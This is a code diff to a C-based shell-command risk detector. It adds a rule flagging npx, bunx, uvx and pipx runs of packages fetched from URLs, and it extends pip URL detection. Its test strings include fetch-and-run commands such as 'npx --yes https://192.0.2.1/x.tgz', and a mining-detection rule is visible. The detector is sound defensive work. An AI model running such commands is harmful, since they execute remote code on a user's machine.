@@ -239,7 +239,7 @@ static bool network_pip(const struct shell_model *m, const struct shell_command 
 	for (size_t i = 1; i < c->n; i++) {
 		const char *s = c->argv[i].s;
 
-		if (str_starts(s, "http://") ||
+		if (str_starts(s, "http://") || str_starts(s, "git+http://") ||
 		    (str_starts(s, "https://") &&
 		     !rule_is("--index-url -i --extra-index-url -f --find-links --registry",
 			      c->argv[i - 1].s)) ||
@@ -247,6 +247,14 @@ static bool network_pip(const struct shell_model *m, const struct shell_command 
 			return true;
 	}
 	return false;
+}
+
+static bool network_url(const struct shell_model *m, const struct shell_command *c)
+{
+	const char *s = rule_operand(c, strcmp(c->name, "pipx") == 0 ? 1 : 0);
+
+	(void)m;
+	return str_starts(s, "http://") || str_starts(s, "https://") || str_starts(s, "git+http");
 }
 
 static bool network_exec_listen(const struct shell_model *m, const struct shell_command *c)
@@ -414,6 +422,13 @@ static const struct shell_rule network_rows[] = {
 	 .test = network_pip,
 	 .hit = "pip install http://a.example/x.tar.gz",
 	 .miss = "pip install requests"},
+	{.id = "CMD-RUN-URL",
+	 .reason = "It fetches a program from an address and runs it.",
+	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
+	 .programs = "npx bunx uvx pipx",
+	 .test = network_url,
+	 .hit = "npx --yes https://192.0.2.1/x.tgz",
+	 .miss = "npx --yes prettier"},
 	{.id = "CMD-MINER",
 	 .reason = "It mines money with this machine.",
 	 ROW(DANGEROUS_PATTERN, 0.9, HIGH),
